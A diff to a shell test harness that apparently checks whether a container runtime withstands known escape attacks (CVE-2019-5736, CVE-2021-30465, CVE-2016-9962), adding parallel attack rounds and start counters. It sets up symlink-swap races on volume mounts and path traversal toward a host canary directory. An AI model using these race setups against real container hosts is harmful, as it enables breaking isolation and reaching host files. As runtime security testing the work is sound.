@@ -8,9 +8,10 @@
 #     rt_kill NAME PID               end it, and wait for PID
 #     rt_root TREE COMMAND...        run with a directory as the root, and the sysctl kernel.msgmax=4096
 #     rt_load NAME DIR               load the OCI layout DIR as the image NAME
-# and T, CORPUS, TOP, ROUNDS. The canary is a directory that no container is given.
+# and T, CORPUS, TOP, ROUNDS. The canary is a directory that no container is given. STARTERS of them
+# start containers at a time: most of a start is waiting, on a busy machine nearly all of it.
 CANARY=$T/canary
-: "${ROUNDS:=18}"
+: "${ROUNDS:=18}" "${STARTERS:=1}"
 
 attacks_prepare() {
 	mkdir -p "$CANARY/deep" "$T/layer/bin" "$T/shared"
@@ -49,6 +50,23 @@ make_image() { # NAME [CONFIG-MEMBERS]
 }
 
 reached() { grep -h ^reached "$@" | sort | uniq -c; }
+
+# A round that the runtime refuses to start is one that it withstood, too.
+ran() { # FILE TIMES
+	echo "# started in $(grep -c ^ran "$1") of $2 rounds" >&2
+}
+
+# COMMAND so many times, by all starters.
+rounds() { # TIMES COMMAND...
+	local i w starters=()
+
+	for ((w = 0; w < STARTERS; w++)); do
+		for ((i = w; i < $1; i += STARTERS)); do "${@:2}"; done &
+		starters+=($!)
+	done
+	wait "${starters[@]}"
+}
+
 some() { echo $((ROUNDS > $1 ? $1 : ROUNDS)); }
 
 # 1. /proc/self/exe of what joins the container (CVE-2019-5736).
@@ -90,16 +108,17 @@ attack_descriptors() {
 
 # 3. A mount target that becomes a symlink, in a volume that another container has (CVE-2021-30465).
 attack_targets() {
-	local i pid
+	local pid
 
 	rm -rf "$T/shared" && mkdir -p "$T/shared/place" "$T/given"
 	ln -s "/../../../../../../../..$CANARY/deep" "$T/shared/link"
 	rt_start racer "$T/ready" -v "$T/shared:/v" attacked:1.0 /attacker swap /v/place /v/link || return
-	for ((i = 0; i < ROUNDS; i++)); do
-		rt run -v "$T/shared:/v" -v "$T/given:/v/place/x" attacked:1.0 /attacker escape "$CANARY/secret"
-	done >"$T/out" 2>/dev/null
+	rounds "$ROUNDS" rt run -v "$T/shared:/v" -v "$T/given:/v/place/x" attacked:1.0 \
+		/attacker escape "$CANARY/secret" >"$T/out" 2>/dev/null
 	rt_kill racer "$pid"
 	reached "$T/out"
+	ran "$T/out" "$ROUNDS"
+	grep -q ^ran "$T/out" || echo "reached nothing: no container was started"
 	canary_changes
 }
 
@@ -108,7 +127,7 @@ attack_filling() {
 	local i pid
 
 	mkdir -p "$T/layer/fill/one" "$T/layer/fill/two"
-	for i in {1..60}; do tee "$T/layer/fill/one/$i" "$T/layer/fill/two/$i" >/dev/null <<<"$i"; done
+	for i in {1..16}; do tee "$T/layer/fill/one/$i" "$T/layer/fill/two/$i" >/dev/null <<<"$i"; done
 	echo "from the image" >"$T/layer/fill/one/secret"
 	ln "$T/layer/fill/one/secret" "$T/layer/fill/two/link"
 	mkfifo -m 666 "$T/layer/fill/pipe"
@@ -117,10 +136,11 @@ attack_filling() {
 	rt_start racer "$T/ready" -v filled:/v attacked:1.0 /attacker fill /v "$CANARY" || return
 	for ((i = 0; i < ROUNDS; i++)); do
 		rt run -v filled:/fill filling:1.0 sh -c 'cat /fill/*/* 2>/dev/null | grep -qx -e secret -e link &&
-			echo reached a file of the host; touch /fill/done; until [ ! -e /fill/done ]; do :; done'
+			echo reached a file of the host; echo ran; touch /fill/done; until [ ! -e /fill/done ]; do :; done'
 	done >"$T/out" 2>/dev/null
 	rt_kill racer "$pid"
 	reached "$T/out"
+	ran "$T/out" "$ROUNDS"
 	canary_changes
 }
 
@@ -141,6 +161,7 @@ attack_shared_root() {
 		done >"$T/out" 2>/dev/null
 		rt_kill racer "$pid"
 		reached "$T/out"
+		ran "$T/out" $(($(some 900) / 3))
 		rm -rf "$T/tree/link" "$T/tree/$place" && mkdir "$T/tree/$place"
 	done
 	rm -rf --one-file-system "$T/tree"
@@ -222,10 +243,10 @@ attack_terminal() {
 
 # 9. What joins is stopped, read, or followed home (CVE-2016-9962).
 attack_joiners() { # [OPTION...]
-	local i pid
+	local pid
 
 	rt_start victim "$T/out" "$@" attacked:1.0 /attacker snoop || return
-	for ((i = 0; i < $(some 2000); i++)); do rt exec victim true; done >/dev/null 2>&1
+	rounds "$(some 2000)" rt exec victim true >/dev/null 2>&1
 	rt_kill victim "$pid"
 	reached "$T/out"
 }
